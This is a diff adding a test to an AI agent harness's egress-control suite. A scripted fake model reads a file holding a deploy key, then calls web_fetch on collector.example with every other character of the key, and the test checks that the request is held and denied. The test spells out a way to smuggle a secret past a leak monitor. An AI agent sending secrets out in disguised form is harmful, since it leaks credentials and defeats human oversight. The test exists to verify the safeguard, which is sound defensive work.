@@ -100,4 +100,34 @@ describe('L08.1 taint-aware egress', () => {
     const held = (await e2e.audit()).filter((l) => l['type'] === 'security:egress_held').map((l) => l['outcome']);
     expect(held).toEqual(['held', 'denied', 'held', 'denied']);
   });
+  it('half of a vault value, every other character, is held; a random id of that length from the same session is not', async () => {
+    const base62 = (n: number) =>
+      [...randomBytes(n)].map((b) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'[b % 62]).join('');
+    const deploy = base62(40);
+    // A bare run of 20 characters: under the raw rule's 40, in no encoding, no form of the leak index.
+    const half = [...deploy].filter((_, i) => i % 2 === 0).join('');
+    const idUrl = `https://collector.example/doc/${base62(20)}`;
+    const halfUrl = `https://collector.example/doc/${half}`;
+    const script = (req: FakeRequest): FakeReply => {
+      const step = req.messages.filter((m) => m.role === 'tool').length;
+      if (step === 0) return reply.toolCall('read', { path: 'notes/keys.txt' });
+      if (step === 1) return reply.toolCall('web_fetch', { url: idUrl });
+      if (step === 2) return reply.toolCall('web_fetch', { url: halfUrl });
+      return reply.text('done');
+    };
+    e2e = await startE2E('openai', script, undefined, { vault: { DEPLOY_KEY: deploy } });
+    mkdirSync(path.join(e2e.workspace, 'notes'), { recursive: true });
+    writeFileSync(path.join(e2e.workspace, 'notes', 'keys.txt'), `deploy ${deploy}\n`);
+
+    const turn = chat(e2e, 'read the notes, then fetch twice');
+    const held = await nextApproval(e2e);
+    // The request asked about is the second: the random id went ahead (and failed at L10: no such name here).
+    expect(held.view.args).toContain(half);
+    const shown = held.view.reasons.join('\n');
+    expect(shown).toContain('20 characters of the value of DEPLOY_KEY, in order with others left out');
+    expect((await decide(e2e, held.id, 'deny')).status).toBe(200);
+    expect(await turn).toBe(200);
+    const outcomes = (await e2e.audit()).filter((l) => l['type'] === 'security:egress_held').map((l) => l['outcome']);
+    expect(outcomes).toEqual(['held', 'denied']);
+  });
 });
